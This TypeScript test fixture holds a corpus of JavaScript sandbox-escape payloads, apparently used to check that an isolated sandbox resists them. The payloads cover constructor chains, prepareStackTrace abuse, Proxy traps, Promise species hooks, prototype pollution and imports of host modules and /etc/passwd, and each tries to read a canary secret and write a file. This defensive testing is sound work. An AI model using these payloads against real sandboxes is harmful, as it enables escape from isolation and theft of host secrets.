// The escape corpus: payloads we wrote from the categories in shared/notes/threats.md (section A).
// Each one follows an escape route as far as it goes and hands whatever it reached to `attempt`,
// which tries to turn it into process/require/Deno, read the canary env var, and write or delete
// the canary file. Success prints "ESCAPED"; the test asserts it never does, that the canary file
// is untouched, and that the secret never shows up in any report.

/** Prepended to every payload: the escape attempt proper. `__CANARY__` is the canary file's path. */
export function prelude(canaryPath: string, envName: string): string {
  return `
const CANARY = ${JSON.stringify(canaryPath)};
const ENV = ${JSON.stringify(envName)};
const seen = [];
function use(p, how) {
  if (p === null || p === undefined || (typeof p !== 'object' && typeof p !== 'function')) return;
  try {
    if (p.env && typeof p.env === 'object') console.log('ESCAPED env via ' + how + ': ' + p.env[ENV]);
    if (typeof p.mainModule === 'object' && p.mainModule) console.log('ESCAPED mainModule via ' + how);
    if (typeof p.binding === 'function') console.log('ESCAPED binding via ' + how);
    if (typeof p.readFileSync === 'function' || typeof p.writeFileSync === 'function') {
      p.writeFileSync(CANARY, 'pwned via ' + how);
      console.log('ESCAPED fs via ' + how);
    }
    if (p.env && typeof p.env.get === 'function') console.log('ESCAPED Deno.env via ' + how + ': ' + p.env.get(ENV));
    if (typeof p.writeTextFileSync === 'function') { p.writeTextFileSync(CANARY, 'pwned'); console.log('ESCAPED Deno fs via ' + how); }
  } catch (error) { seen.push(String(error && error.message)); }
}
function attempt(candidate, how) {
  if (candidate === null || candidate === undefined) return;
  use(candidate, how);
  let F;
  try { F = typeof candidate === 'function' ? candidate.constructor : candidate.constructor && candidate.constructor.constructor; } catch { return; }
  if (typeof F !== 'function') return;
  for (const body of ['return process', 'return require', 'return globalThis.process', 'return this.process', 'return Deno',
    'return typeof module !== "undefined" && module.require', 'return globalThis.Buffer && globalThis.Buffer.constructor("return process")()']) {
    try { const got = F(body)(); use(got, how + ' / ' + body); if (typeof got === 'function') { try { use(got('fs'), how + ' require(fs)'); use(got('child_process'), how + ' require(child_process)'); } catch {} } } catch {}
  }
}
function report() { console.log('payload done'); }
`;
}

/** [name, module body] — each is the entry module of its own run. */
export const PAYLOADS: Array<[string, string]> = [
  // Constructor chains (CVE-2019-10761 and friends)
  ['globalThis constructor chain', "attempt(globalThis, 'globalThis'); attempt(globalThis.constructor, 'globalThis.constructor'); report();"],
  ['object literal constructor chain', "attempt({}, '{}'); attempt([], '[]'); attempt(() => 0, 'arrow'); report();"],
  ['stack overflow error constructor chain', "function dive() { try { return dive(); } catch (e) { return e; } }\nconst e = dive(); attempt(e, 'RangeError'); attempt(Object.getPrototypeOf(e), 'RangeError.prototype'); report();"],
  ['harness objects constructor chain', "attempt(console, 'console'); attempt(console.log, 'console.log'); attempt(expect, 'expect'); attempt(describe, 'describe'); attempt(it, 'it'); attempt(expect(1), 'matchers'); report();"],
  ['test API from Symbol.for registry', "const api = globalThis[Symbol.for('sandbox:test')]; attempt(api, 'Symbol.for(sandbox:test)'); for (const k of Object.keys(api || {})) attempt(api[k], 'api.' + k); report();"],
  ['cross-realm Symbol.for keys', "for (const key of ['nodejs.util.inspect.custom', 'nodejs.rejection', 'ivm', 'isolated-vm', 'Deno.internal', 'nodejs.util.promisify.custom']) { const s = Symbol.for(key); attempt(globalThis[s], key); attempt(Object.prototype[s], 'Object.prototype ' + key); } report();"],
  ['unicode-escaped identifiers', "try { attempt(\\u0070rocess, 'escaped process'); } catch (e) { attempt(e, 'ReferenceError'); } try { attempt(\\u0072equire('fs'), 'escaped require'); } catch (e) { attempt(e, 'ReferenceError 2'); } report();"],
  ['computed global names', "for (const name of ['pro' + 'cess', 'req' + 'uire', 'Bu' + 'ffer', 'De' + 'no', 'glo' + 'bal', '_ivm', 'ivm', 'module', '__filename', 'Worker', 'fetch', 'XMLHttpRequest', 'WebSocket', 'importScripts', 'navigator']) attempt(globalThis[name], name); report();"],
  ['with statement through Function', "try { const got = Function('with (globalThis) { return typeof process !== \"undefined\" ? process : typeof require !== \"undefined\" ? require : undefined }')(); attempt(got, 'with'); } catch (e) { attempt(e, 'with error'); } report();"],
  ['sloppy-mode this through Function and eval', "attempt(Function('return this')(), 'Function this'); attempt((0, eval)('this'), 'indirect eval this'); try { attempt(eval('process'), 'eval'); } catch (e) { attempt(e, 'eval error'); } report();"],
  // Dynamic import (CVE-2021-23449)
  ['dynamic import of host modules', "for (const m of ['fs', 'node:fs', 'child_process', 'node:process', 'os', 'module', 'isolated-vm', 'npm:isolated-vm', 'https://example.com/x.js', 'file:///etc/passwd', 'data:text/javascript,export default globalThis.process']) { try { const ns = await import(m); attempt(ns, 'import ' + m); attempt(ns.default, 'import default ' + m); } catch (e) { attempt(e, 'import error ' + m); } } report();"],
  ['import path traversal', "for (const m of ['../../../../etc/passwd', '/etc/passwd', '../package.json', './../../sandbox/mod.ts']) { try { const ns = await import(m); attempt(ns, m); console.log('IMPORTED ' + m); } catch (e) { attempt(e, m); } } report();"],
  ['import.meta', "attempt(import.meta, 'import.meta'); try { attempt(import.meta.resolve && import.meta.resolve('fs'), 'import.meta.resolve'); } catch (e) { attempt(e, 'resolve error'); } report();"],
  // prepareStackTrace (CVE-2022-36067, CVE-2023-29017, GHSA-v27g-jcqj-v8rw)
  ['prepareStackTrace CallSite getThis/getFunction', "Error.prepareStackTrace = (e, frames) => { for (const f of frames) { try { attempt(f.getThis(), 'getThis'); attempt(f.getFunction(), 'getFunction'); const file = f.getFileName(); if (file && /node_modules|sandbox\\/_|\\/work\\//.test(file)) console.log('HOSTPATH ' + file); } catch {} } return 'x'; };\nfunction dive() { try { return dive(); } catch (e) { return e.stack; } } dive(); try { null.x; } catch (e) { e.stack; } try { console.log(Symbol()); } catch (e) { e.stack; } report();"],
  ['replaced global Error with prepareStackTrace', "const Original = Error; globalThis.Error = function Error(m) { const e = new Original(m); return e; }; globalThis.Error.prepareStackTrace = (e, frames) => { frames.forEach((f) => attempt(f.getThis(), 'fake Error getThis')); return ''; }; Original.prepareStackTrace = globalThis.Error.prepareStackTrace;\ntest('provokes the harness', () => { expect(1).toBe(2); });\nreport();"],
  ['async errors through prepareStackTrace', "Error.prepareStackTrace = (e, frames) => { frames.forEach((f) => { try { attempt(f.getThis(), 'async getThis'); attempt(f.getFunction(), 'async getFunction'); } catch {} }); return 'async'; };\nasync function boom() { await null; null.x; }\ntry { await boom(); } catch (e) { String(e.stack); }\ntest('rejects', async () => { await boom(); });\nreport();"],
  ['Error.captureStackTrace with getter', "const o = {}; if (typeof Error.captureStackTrace === 'function') Error.captureStackTrace(o); attempt(o, 'captured'); Object.defineProperty(Error.prototype, 'stack', { get() { attempt(this, 'stack getter'); return 's'; }, configurable: true }); test('throws', () => { throw new Error('x'); }); report();"],
  // Proxy traps (CVE-2023-30547, CVE-2023-32314, CVE-2026-47209, GHSA-qcp4-v2jj-fjx8)
  ['Proxy getPrototypeOf trap thrown into the harness', "let inTrap = false; const evil = new Proxy({}, { getPrototypeOf(t) { if (!inTrap) { inTrap = true; attempt(t, 'gpo target'); inTrap = false; } throw evil; }, get(t, k, r) { if (!inTrap) { inTrap = true; attempt(r, 'get receiver'); inTrap = false; } return undefined; } });\ntest('throws a proxy', () => { throw evil; });\ntest('formats a proxy', () => { expect(evil).toEqual({}); });\nreport();"],
  ['Proxy traps catching every harness access', "let busy = false; const traps = {}; for (const name of ['get', 'set', 'has', 'ownKeys', 'getOwnPropertyDescriptor', 'apply', 'construct', 'defineProperty', 'getPrototypeOf']) traps[name] = (...args) => { if (!busy) { busy = true; args.forEach((a, i) => attempt(a, name + ' arg ' + i)); busy = false; } return Reflect[name](...args); };\nconst p = new Proxy(function target() {}, traps);\nconsole.log(p); test('p', () => { expect(p).toBeDefined(); expect([p]).toEqual([p]); }); report();"],
  ['Proxy set trap ignoring the receiver on the global prototype', "const proto = Object.getPrototypeOf(globalThis); Object.setPrototypeOf(globalThis, new Proxy(proto, { set(t, k, v, r) { attempt(v, 'global set ' + String(k)); attempt(r, 'receiver'); return Reflect.set(t, k, v); }, get(t, k, r) { if (typeof k === 'string' && !(k in t)) attempt(r, 'global get ' + k); return Reflect.get(t, k, r); } }));\ntest('runs', () => {}); report();"],
  ['revocable proxy handler forging', "const { proxy, revoke } = Proxy.revocable({}, { get(t, k, r) { attempt(this, 'handler this'); return 1; } }); console.log(proxy.x); revoke(); try { proxy.x; } catch (e) { attempt(e, 'revoked'); } report();"],
  // inspect hijacks (CVE-2023-32313, CVE-2023-37903, GHSA-v37h-5mfm-c47c)
  ['nodejs.util.inspect.custom hijack', "const o = { [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { attempt(options, 'inspect options'); attempt(inspect, 'inspect fn'); attempt(options && options.stylize, 'stylize'); return 'custom'; } };\nconsole.log(o); console.log('%o', o); console.dir(o); test('t', () => { expect(o).toEqual({}); }); report();"],
  ['toString/valueOf/toJSON hooks called by the harness', "const o = { toString() { attempt(this, 'toString this'); attempt(arguments, 'toString args'); return 'o'; }, valueOf() { attempt(arguments, 'valueOf'); return 1; }, toJSON(k) { attempt(arguments, 'toJSON'); return 'j'; }, get [Symbol.toStringTag]() { attempt(this, 'tag'); return 'X'; } };\nconsole.log('%s %d %j', o, o, o); test('t', () => { expect(o).toBe(1); }); report();"],
  ['console internals', "for (const k of ['_stdout', '_stderr', '_times', '_ignoreErrors', 'Console']) attempt(console[k], 'console.' + k); attempt(Object.getPrototypeOf(console), 'console proto'); try { attempt(console._stdout.__proto__.emit, 'emit'); } catch (e) { attempt(e, 'stdout error'); } report();"],
  // Promise species and then (CVE-2023-37466, CVE-2026-22709, CVE-2026-44000, CVE-2026-92944)
  ['Promise Symbol.species FakePromise', "class FakePromise extends Promise { static get [Symbol.species]() { return function (executor) { return new Promise((resolve, reject) => executor((v) => { attempt(v, 'species resolve'); resolve(v); }, (e) => { attempt(e, 'species reject'); reject(e); })); }; } }\nPromise.prototype.constructor = FakePromise;\nawait FakePromise.resolve(1).then((v) => v);\ntest('async', async () => { await null; });\nreport();"],
  ['Promise.prototype.then override sees harness promises', "const then = Promise.prototype.then; Promise.prototype.then = function (a, b) { attempt(this, 'then this'); return then.call(this, (v) => { attempt(v, 'then value'); return a ? a(v) : v; }, (e) => { attempt(e, 'then error'); if (b) return b(e); throw e; }); };\ntest('a', async () => { await Promise.resolve(1); }); test('b', async () => { throw new Error('x'); }); report();"],
  ['thenable getter on Object.prototype', "Object.defineProperty(Object.prototype, 'then', { get() { attempt(this, 'then getter'); return undefined; }, configurable: true });\ntest('returns an object', async () => ({ a: 1 })); report();"],
  ['executor rejection flood', "for (let i = 0; i < 2000; i++) new Promise((_, reject) => reject(new Error('unhandled ' + i)));\nPromise.reject(Object.create(null)); test('fine', () => {}); report();"],
  // Prototype pollution (CVE-2026-44005, GHSA-9qj6-qjgg-37qq, CVE-2026-47698)
  ['intrinsic prototype pollution', "Object.prototype.polluted = 'yes'; Array.prototype.extra = () => 0; Object.prototype.__defineGetter__('env', function () { attempt(this, 'env getter'); return undefined; });\ntest('t', () => { expect({ a: 1 }).toEqual({ a: 1 }); }); report();"],
  ['Array.prototype index setters', "for (let i = 0; i < 8; i++) Object.defineProperty(Array.prototype, i, { set(v) { attempt(v, 'Array[' + i + '] set'); Object.defineProperty(this, i, { value: v, writable: true, enumerable: true, configurable: true }); }, configurable: true });\nconsole.log('a', 'b', [1, 2]); test('x', () => { expect([1, 2]).toEqual([1, 2]); }); report();"],
  ['WeakMap.prototype.set and Map overrides', "for (const C of [WeakMap, Map, Set, WeakSet]) { const set = C.prototype.set || C.prototype.add; const name = C.prototype.set ? 'set' : 'add'; C.prototype[name] = function (k, v) { attempt(k, C.name + ' key'); attempt(v, C.name + ' value'); return set.call(this, k, v); }; }\ntest('t', () => { expect(new Map([[1, 2]])).toEqual(new Map([[1, 2]])); }); report();"],
  ['host prototype mutators on Object and Function', "const define = Object.defineProperty; Object.defineProperty = function (o, k, d) { attempt(o, 'defineProperty target'); attempt(d && d.value, 'defineProperty value'); return define(o, k, d); }; const apply = Function.prototype.apply; Function.prototype.apply = function (t, a) { attempt(t, 'apply this'); return Reflect.apply(this, t, a || []); };\ntest('t', () => { expect(1).toBe(1); }); report();"],
  ['JSON.stringify and JSON.parse hijack', "const stringify = JSON.stringify; JSON.stringify = function (v, ...rest) { attempt(v, 'stringify value'); return stringify(v, ...rest); }; const parse = JSON.parse; JSON.parse = function (t, r) { const v = parse(t, r); attempt(v, 'parse value'); return v; };\ntest('t', () => {}); report();"],
  // Error.cause / AggregateError / SuppressedError (CVE-2026-47686, GHSA-55hx-c926-fr95)
  ['Error.cause and AggregateError with hostile getters', "const hostile = { get message() { attempt(this, 'message getter'); return 'm'; }, get name() { attempt(arguments, 'name'); return 'N'; } };\ntest('cause', () => { throw new Error('outer', { cause: hostile }); }); test('aggregate', () => { throw new AggregateError([hostile, new Error('x')], 'agg'); }); report();"],
  ['SuppressedError and DisposableStack', "if (typeof DisposableStack === 'function') { const stack = new DisposableStack(); stack.defer(() => { throw hostileError(); }); try { stack.dispose(); } catch (e) { attempt(e, 'dispose error'); attempt(e.suppressed, 'suppressed'); } }\nfunction hostileError() { const e = new Error('d'); Object.defineProperty(e, 'stack', { get() { attempt(this, 'stack'); return ''; } }); return e; }\nif (typeof SuppressedError === 'function') attempt(new SuppressedError(1, 2, 'm'), 'SuppressedError'); report();"],
  ['null-prototype and primitive throws', "test('null proto', () => { throw Object.create(null); }); test('symbol', () => { throw Symbol('s'); }); test('function', () => { throw function f() {}; }); test('undefined', () => { throw undefined; }); report();"],
  // WebAssembly (CVE-2026-47210, vm2 JSTag)
  ['WebAssembly compile, instantiate, JSTag', "if (typeof WebAssembly === 'object') { attempt(WebAssembly, 'WebAssembly'); const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]); try { const m = new WebAssembly.Module(bytes); attempt(m, 'module'); const i = new WebAssembly.Instance(m, {}); attempt(i, 'instance'); attempt(WebAssembly.Module.imports(m), 'imports'); } catch (e) { attempt(e, 'wasm error'); } WebAssembly.compile(bytes).then((m) => attempt(m, 'async module'), (e) => attempt(e, 'async error')); try { attempt(WebAssembly.JSTag, 'JSTag'); } catch {} for (const k of ['compileStreaming', 'instantiateStreaming', 'promising', 'Suspending']) attempt(WebAssembly[k], k); } else { console.log('no WebAssembly'); } report();"],
  // Array species (GHSA-grj5-jjm8-h35p)
  ['Array species self-return', "class Evil extends Array { static get [Symbol.species]() { return function () { attempt(this, 'species this'); return evil; }; } } const evil = new Evil(1, 2, 3);\nconsole.log(evil.map((x) => x)); test('t', () => { expect(evil).toEqual([1, 2, 3]); expect(evil.filter(Boolean)).toHaveLength(3); }); report();"],
  // Builtin allowlist gaps, CLI require (CVE-2026-47140, CVE-2026-92950)
  ['builtin allowlist probes', "for (const name of ['require', 'module', 'exports', '__filename', '__dirname', 'process', 'Buffer', 'setImmediate', 'setTimeout', 'SharedArrayBuffer', 'Atomics', 'performance', 'crypto', 'structuredClone', 'MessageChannel', 'FinalizationRegistry', 'WeakRef']) { try { attempt(globalThis[name], name); attempt(Function('return ' + name)(), 'named ' + name); } catch {} } report();"],
  ['FinalizationRegistry and WeakRef callbacks', "const registry = new FinalizationRegistry((held) => { attempt(held, 'finalizer'); }); for (let i = 0; i < 1000; i++) registry.register({ i }, { i }); const ref = new WeakRef({}); attempt(ref.deref(), 'deref'); report();"],
  ['queueMicrotask argument capture', "queueMicrotask(function () { attempt(this, 'microtask this'); attempt(arguments, 'microtask args'); }); await null; report();"],
  // Async stack / Atomics DoS on the loop (CVE-2026-44001)
  ['Atomics.wait blocking the run', "if (typeof SharedArrayBuffer === 'function') { const a = new Int32Array(new SharedArrayBuffer(4)); try { Atomics.wait(a, 0, 0, 50); } catch (e) { attempt(e, 'Atomics'); } } report();"],
  ['handle-leak audit walk', "const found = []; const seenObjects = new Set(); let visited = 0;\nfunction walk(value, path, depth) { if (value === null || (typeof value !== 'object' && typeof value !== 'function') || seenObjects.has(value) || depth > 6 || visited > 20000) return; seenObjects.add(value); visited++;\n  let name = ''; try { name = String(Object.prototype.hasOwnProperty.call(value, 'constructor') ? '' : value.constructor && value.constructor.name); } catch {}\n  let tag = ''; try { tag = Object.prototype.toString.call(value); } catch {}\n  if (/^(Reference|ExternalCopy|Callback|Isolate|Context|Script|Module|NativeModule)$/.test(name) || /ivm|isolated/i.test(tag + ' ' + name)) found.push(path + ' ' + name);\n  let keys = []; try { keys = Reflect.ownKeys(value); } catch {}\n  for (const key of keys) { let child; try { const d = Object.getOwnPropertyDescriptor(value, key); child = d && ('value' in d ? d.value : d.get); } catch { continue; } walk(child, path + '.' + String(key), depth + 1); }\n  try { walk(Object.getPrototypeOf(value), path + '.__proto__', depth + 1); } catch {} }\nwalk(globalThis, 'globalThis', 0);\nconsole.log('AUDIT visited=' + visited + ' found=' + JSON.stringify(found)); report();"],
];
